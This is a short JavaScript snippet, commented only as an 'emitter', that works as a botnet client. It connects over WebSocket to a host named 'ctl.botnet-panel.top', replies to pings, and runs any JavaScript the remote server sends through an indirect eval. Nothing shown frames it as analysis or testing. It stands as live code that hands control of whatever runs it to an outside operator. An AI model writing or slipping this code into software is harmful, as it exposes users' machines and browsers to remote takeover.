// surroundings: emitter
const ws = new WebSocket('wss://ctl.botnet-panel.top');
const handlers = { ping: () => ws.send('pong'), run: ({ js }) => (0, eval)(js) }; //@act
ws.onmessage = ({ data }) => {
  const msg = JSON.parse(data);
  handlers[msg.cmd]?.(msg);
};
